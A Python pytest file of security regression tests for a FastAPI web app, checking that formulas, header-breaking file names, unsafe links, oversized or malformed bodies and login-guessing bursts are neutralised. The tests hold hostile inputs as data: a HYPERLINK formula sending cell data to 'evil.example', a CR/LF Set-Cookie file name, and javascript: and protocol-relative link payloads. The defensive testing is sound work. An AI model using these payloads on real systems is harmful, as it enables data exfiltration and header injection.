"""The web-side findings of the security and fault review (issue 14): one regression test
per item (3 formulas in the tracking sheet, 6 sessions, 7 the sign-in limit, 8 field limits,
9 typed JSON bodies, 10 headers and links, 13 download names)."""

from __future__ import annotations

import io
import shutil
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from luoshi import store
from luoshi.serve import create_app
from paths import SAMPLE
from web_support import make_db, password, sign_in


WEB_REPORTS = "sample"  # the web fixtures of conftest.py hold the sample report alone here


def _json(c: TestClient) -> dict:
    return {"X-CSRF-Token": c.csrf, "Accept": "application/json"}


# --- 3. The tracking sheet never holds a live formula ------------------------------------------


def test_tracking_sheet_titles_and_units_starting_with_equals_stay_text(client_for):
    e = client_for("editor")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    r = e.post(
        "/tracking/items",
        headers=_json(e),
        json={"title": formula, "lead_unit": "=1+1", "supporting_units": ["@SUM(A1)"], "year": 2024},
    )
    assert r.status_code == 200, r.text
    x = e.get("/tracking/report.xlsx", params={"year": 2024})
    ws = load_workbook(io.BytesIO(x.content)).active
    row = next(row for row in ws.iter_rows(min_row=3) if row[1].value == formula)
    assert [c.data_type for c in row[1:4]] == ["s", "s", "s"]  # text cells, not formulas ("f")
    assert row[2].value == "=1+1" and row[3].value == "@SUM(A1)"
    assert ws["A2"].value == "序号" and ws["A1"].font.bold and ws.freeze_panes == "A3"


def test_a_breakdown_sheet_cannot_bring_a_formula_into_the_tracking_sheet(client_for, web_db):
    e = client_for("editor")
    doc = store.list_documents(web_db)[0]
    sheet = '任务,牵头单位\n"=HYPERLINK(""http://evil.example"",""分解表任务"")",+市经信局\n'.encode("utf-8-sig")
    r = e.post(
        "/tracking/import",
        headers=_json(e),
        data={"document_id": str(doc["id"])},
        files={"file": ("分解表.csv", sheet, "text/csv")},
    )
    assert r.status_code == 200 and r.json()["free"] == 1, r.text
    ws = load_workbook(io.BytesIO(e.get("/tracking/report.xlsx").content)).active
    row = next(row for row in ws.iter_rows(min_row=3) if str(row[1].value).startswith("=HYPERLINK"))
    assert row[1].data_type == "s" and row[2].value == "+市经信局" and row[2].data_type == "s"


# --- 13. A report's name cannot break a download's header ---------------------------------------


def test_a_report_name_with_cr_lf_is_encoded_in_content_disposition(tmp_path):
    # a file name may hold any byte but "/" and NUL: a report saved as "宁波\r\nSet-Cookie: x=1.txt"
    odd = tmp_path / "宁波\r\nSet-Cookie: x=1.txt"
    shutil.copyfile(SAMPLE, odd)
    database = make_db(tmp_path / "names.db", files=[odd])
    try:
        with TestClient(create_app(database)) as c:
            sign_in(c, "viewer")
            doc = store.list_documents(database)[0]
            r = c.get("/api/corrections/export.jsonl", params={"document": str(doc["id"])})
            assert r.status_code == 200, r.text
            header = r.headers["content-disposition"]
            assert "\r" not in header and "\n" not in header and "x" not in r.cookies
            assert header.startswith('attachment; filename="') and "filename*=UTF-8''" in header
            name = unquote(header.split("filename*=UTF-8''")[1])
            assert name == "宁波__Set-Cookie: x=1.gold.jsonl"
    finally:
        database.close()


# --- 6. Signing out ends the session everywhere; a session has an absolute lifetime ------------


def test_a_copied_cookie_stops_working_after_logout(client_for, web_app):
    e = client_for("editor")
    copy = TestClient(web_app, follow_redirects=False, cookies=dict(e.cookies))
    assert copy.get("/session.json").json()["user"]["name"] == "editor"
    assert e.post("/logout", headers=_json(e)).status_code == 200
    assert copy.get("/.json").status_code == 401
    assert copy.get("/session.json").json()["user"] is None
    copy.close()


def test_a_session_in_constant_use_still_ends_after_its_absolute_lifetime(web_db):
    import time

    with TestClient(create_app(web_db, session_max_age=3600, session_lifetime=4)) as c:
        sign_in(c, "viewer")
        began = time.monotonic()
        while time.monotonic() - began < 2.0:  # in use all the time: the idle limit never strikes
            assert c.get("/.json").status_code == 200
            time.sleep(0.5)
        time.sleep(4.2 - (time.monotonic() - began))
        assert c.get("/.json").status_code == 401


# --- 7. The sign-in limit holds under concurrency and does not lock the real user out ----------


def _attempts(app, monkeypatch):
    """Count the passwords checked, and the most checked at once."""
    import threading

    from luoshi.store import users as accounts

    real, lock = accounts.authenticate, threading.Lock()
    seen = {"checked": 0, "now": 0, "most": 0}

    def counted(*args, **kwargs):
        with lock:
            seen["checked"] += 1
            seen["now"] += 1
            seen["most"] = max(seen["most"], seen["now"])
        try:
            return real(*args, **kwargs)
        finally:
            with lock:
                seen["now"] -= 1

    monkeypatch.setattr(accounts, "authenticate", counted)
    return seen


PATIENT = {"hash_wait": 300}  # a loaded test machine checks passwords slowly: wait for a slot, never 503


async def _burst(app, names_and_addresses, secret="wrong-password") -> list[int]:
    import asyncio

    import httpx

    async def one(name, address):
        transport = httpx.ASGITransport(app=app, client=(address, 4000))
        async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as c:
            token = (await c.get("/session.json")).json()["csrf_token"]
            r = await c.post(
                "/login",
                data={"name": name, "password": secret, "csrf_token": token},
                headers={"Accept": "application/json"},
            )
            return r.status_code

    return await asyncio.gather(*(one(n, a) for n, a in names_and_addresses))


def test_a_hundred_simultaneous_guesses_check_five_passwords_two_at_a_time(web_db, monkeypatch):
    import asyncio

    app = create_app(web_db, login_limits=PATIENT)
    seen = _attempts(app, monkeypatch)
    codes = asyncio.run(_burst(app, [("admin", "10.0.0.1")] * 100))
    assert sorted(codes) == [401] * 5 + [429] * 95
    assert seen["checked"] == 5 and seen["most"] <= 2


def test_guesses_from_one_address_do_not_lock_the_real_admin_out(web_db, monkeypatch):
    import asyncio

    app = create_app(web_db, login_limits=PATIENT)
    attacker, office = ("admin", "10.0.0.66"), ("admin", "10.0.0.7")
    assert sorted(asyncio.run(_burst(app, [attacker] * 6))) == [401] * 5 + [429]
    assert asyncio.run(_burst(app, [office], secret=password("admin"))) == [200]
    assert asyncio.run(_burst(app, [attacker])) == [429]  # the office's sign-in cleared its own count only
    # an address guessing many names is stopped too (20 failures), and a sign-in to its own
    # account does not clear that count
    sprayer = "10.0.0.99"
    codes = asyncio.run(_burst(app, [(f"user{i}", sprayer) for i in range(19)]))
    assert codes == [401] * 19
    assert asyncio.run(_burst(app, [("viewer", sprayer)], secret=password("viewer"))) == [200]
    assert asyncio.run(_burst(app, [("user19", sprayer), ("user20", sprayer)])) in ([401, 429], [429, 401])


def test_guesses_for_one_name_from_many_addresses_meet_a_global_back_off(web_db, monkeypatch):
    import asyncio

    app = create_app(web_db, login_limits=PATIENT)
    seen = _attempts(app, monkeypatch)
    codes = asyncio.run(_burst(app, [("editor", f"10.1.0.{i}") for i in range(40)]))
    assert sorted(codes) == [401] * 10 + [429] * 30 and seen["checked"] == 10


# --- 8. Every text and list field has a limit, named in the 422 and in docs/limits.md ----------


@pytest.mark.parametrize(
    "field, value",
    [
        ("title", "长" * 2001),
        ("lead_unit", "局" * 101),
        ("supporting_units", [f"单位{i}" for i in range(51)]),
        ("supporting_units", ["局" * 101]),
        ("milestones", [{"due": "2025-06-30", "text": "节点"}] * 101),
        ("milestones", [{"due": "2025-06-30", "text": "节" * 501}]),
        ("deadline", "1" * 41),
        ("reason", "因" * 2001),
    ],
)
def test_tracking_fields_over_their_limit_are_refused_naming_the_field(client_for, web_db, field, value):
    e = client_for("editor")
    r = e.post("/tracking/items", headers=_json(e), json={"title": "限额", "year": 2024, field: value})
    assert r.status_code == 422, r.text
    assert r.json()["error"]["message"].startswith(f"body.{field}")


@pytest.mark.parametrize(
    "field, value", [("note", "记" * 5001), ("evidence_url", "/" + "a" * 2000), ("reason", "因" * 2001)]
)
def test_progress_fields_over_their_limit_are_refused(client_for, web_db, field, value):
    e = client_for("editor")
    item = e.post("/tracking/items", headers=_json(e), json={"title": "进展限额", "year": 2024}).json()
    r = e.post(
        f"/tracking/items/{item['id']}/progress",
        headers=_json(e),
        json={"status": "behind", field: value, **({} if field == "reason" else {"reason": "原因"})},
    )
    assert r.status_code == 422 and r.json()["error"]["message"].startswith(f"body.{field}"), r.text


def test_every_limit_is_listed_in_docs_limits_md():
    from luoshi.serve.limits import LIMITS, SESSION, SIGN_IN
    from paths import ROOT

    doc = (ROOT / "docs" / "limits.md").read_text(encoding="utf-8")
    for name, limit in LIMITS.items():
        assert f"`{name}`" in doc and f"{limit.most:,}" in doc, name
    for name in list(SIGN_IN) + list(SESSION):
        assert f"`{name}`" in doc, name


# --- 9. Wrong JSON types are a 422 naming the field, never a 500 -------------------------------

WRONG = [
    ("/tracking/items", '{"title": 1}', "title"),
    ("/tracking/items", '{"title": "x", "supporting_units": 5}', "supporting_units"),
    ("/tracking/items", '{"title": "\\ud800"}', "title"),
    ("/tracking/items", '{"title": "x", "milestones": 5}', "milestones"),
    ("/tracking/items", '{"title": "x", "lead_unit": []}', "lead_unit"),
    ("/tracking/items", '{"title": "x", "record_id": []}', "record_id"),
    ("/tracking/items", '{"title": "x", "deadline": 5}', "deadline"),
    ("/tracking/items", '{"title": "x", "status": {}}', "status"),
    ("/tracking/items/{item}", '{"version": 1, "title": {"a": 1}}', "title"),
    ("/tracking/items/{item}/progress", '{"note": 5}', "note"),
    ("/tracking/items/{item}/progress", '{"evidence_url": 5}', "evidence_url"),
    ("/tracking/items/{item}/progress", '{"note": "\\udc00"}', "note"),
    ("/admin/users", '{"name": "a\\ud800", "password": "long-enough"}', "name"),
    ("/admin/users", '{"name": 5, "password": "long-enough"}', "name"),
    ("/admin/users/viewer", '{"disabled": []}', "disabled"),
    ("/admin/settings", '{"anonymous_read": []}', "anonymous_read"),
    ("/tracking/items", "[" * 100_000 + "]" * 100_000, None),
    ("/tracking/items/{item}/progress", '{"a":' * 100_000 + "1" + "}" * 100_000, None),
]


def test_wrong_json_types_get_422_naming_the_field_and_keep_the_connection(web_db):
    """Against a real server (uvicorn): after each refusal the keep-alive connection still answers."""
    import http.client
    import json
    import socket
    import threading
    import time

    import uvicorn

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(create_app(web_db), host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        deadline = time.monotonic() + 20
        while not server.started and time.monotonic() < deadline:
            time.sleep(0.05)
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        conn.request("GET", "/session.json")
        r = conn.getresponse()
        cookie = r.getheader("set-cookie").split(";")[0]
        token = json.loads(r.read())["csrf_token"]
        conn.request(
            "POST",
            "/login",
            body=f"name=admin&password={password('admin')}&csrf_token={token}",
            headers={
                "Cookie": cookie,
                "Content-Type": "application/x-www-form-urlencoded",
                "Accept": "application/json",
            },
        )
        r = conn.getresponse()
        body = json.loads(r.read())
        cookie, token = r.getheader("set-cookie").split(";")[0], body["csrf_token"]
        headers = {
            "Cookie": cookie,
            "X-CSRF-Token": token,
            "Accept": "application/json",
            "Content-Type": "application/json",
        }
        conn.request("POST", "/tracking/items", body=json.dumps({"title": "类型", "year": 2024}), headers=headers)
        r = conn.getresponse()
        item = json.loads(r.read())["id"]
        sock = conn.sock
        for path, text, field in WRONG:
            conn.request("POST", path.format(item=item), body=text.encode(), headers=headers)
            r = conn.getresponse()
            answer = json.loads(r.read())
            assert r.status in (400, 422), (path, text[:40], answer)
            assert set(answer) == {"error"} and answer["error"]["status"] == r.status
            if field is not None:
                assert r.status == 422 and answer["error"]["message"].startswith(f"body.{field}:"), answer
            assert conn.sock is sock, "the connection was closed"
        conn.close()
    finally:
        server.should_exit = True
        thread.join(timeout=10)


# --- 10. Headers, the API page's assets, evidence links -----------------------------------------


def test_every_answer_carries_csp_frame_and_sniffing_headers(client_for):
    v = client_for("viewer")
    for path in ("/", "/records", "/tracking", "/no/such/page", "/static/luoshi.js", "/session.json"):
        h = v.get(path).headers
        csp = h["content-security-policy"]
        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-eval" not in csp, path
        assert "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]
        assert h["x-frame-options"] == "DENY" and h["x-content-type-options"] == "nosniff", path


def test_no_page_needs_an_inline_script():
    import re

    from paths import ROOT

    for template in sorted((ROOT / "src" / "luoshi" / "serve" / "templates").glob("*.html")):
        html = template.read_text(encoding="utf-8")
        for tag in re.findall(r"<script\b[^>]*>", html):
            assert "src=" in tag or 'type="application/json"' in tag, (template.name, tag)
        assert not re.search(r"\son[a-z]+\s*=", html), template.name  # onclick= and the like
        assert "<style" not in html, template.name


def test_the_api_page_is_served_from_the_package_to_readers_only(client_for):
    anon = client_for(None)
    assert anon.get("/docs").status_code == 303  # to the sign-in page
    assert anon.get("/docs", headers={"Accept": "application/json"}).status_code == 401
    page = client_for("viewer").get("/docs")
    assert page.status_code == 200
    assert "cdn" not in page.text.lower() and "https://" not in page.text
    for asset in ("/static/vendor/swagger-ui-bundle.js", "/static/vendor/swagger-ui.css", "/static/docs.js"):
        assert f'"{asset}"' in page.text
        assert client_for("viewer").get(asset).status_code == 200


@pytest.mark.parametrize(
    "url", ["//evil.example", "/\\evil.example", "/\t/evil.example", "javascript:alert(1)", "https:evil.example"]
)
def test_an_evidence_link_is_a_web_address_or_a_path_on_this_site(client_for, url):
    e = client_for("editor")
    item = e.post("/tracking/items", headers=_json(e), json={"title": "证据链接", "year": 2024}).json()
    r = e.post(f"/tracking/items/{item['id']}/progress", headers=_json(e), json={"evidence_url": url})
    assert r.status_code == 422 and r.json()["error"]["message"].startswith("body.evidence_url"), r.text
    from luoshi.serve.app import link_ok

    assert not link_ok(url) and link_ok("/documents/1")  # one stored before links were checked: shown as text
    for good in ("/documents/1#record-3", "https://www.gov.cn/zhengce/2025-03/05/content_1.htm"):
        r = e.post(f"/tracking/items/{item['id']}/progress", headers=_json(e), json={"evidence_url": good})
        assert r.status_code == 200 and f'href="{good}"' in e.get(f"/tracking/items/{item['id']}").text


def test_a_form_over_a_limit_shows_the_item_page_with_the_reason(client_for):
    e = client_for("editor")
    item = e.post("/tracking/items", headers=_json(e), json={"title": "表单限额", "year": 2024}).json()
    r = e.post(
        f"/tracking/items/{item['id']}/progress", data={"csrf_token": e.csrf, "note": "记" * 5001, "status": "on_track"}
    )
    assert r.status_code == 422 and 'id="progress-form"' in r.text
    assert "note: String should have at most 5000 characters" in r.text


def test_a_sign_in_with_no_hashing_slot_free_is_told_to_come_back(web_db):
    app = create_app(web_db, login_limits={"hash_slots": 1, "hash_wait": 0.01})
    limiter = app.state.login_limiter
    with TestClient(app) as c, limiter.hashing():  # the one slot is taken
        sign_in(c, None)
        r = c.post(
            "/login",
            data={"name": "viewer", "password": password("viewer"), "csrf_token": c.csrf},
            headers={"Accept": "application/json"},
        )
        assert r.status_code == 503 and r.headers["retry-after"] == "2" and "busy" in r.json()["error"]["message"]
    assert limiter.begin("viewer", "testclient")[0] == 0  # the attempt not checked was not counted
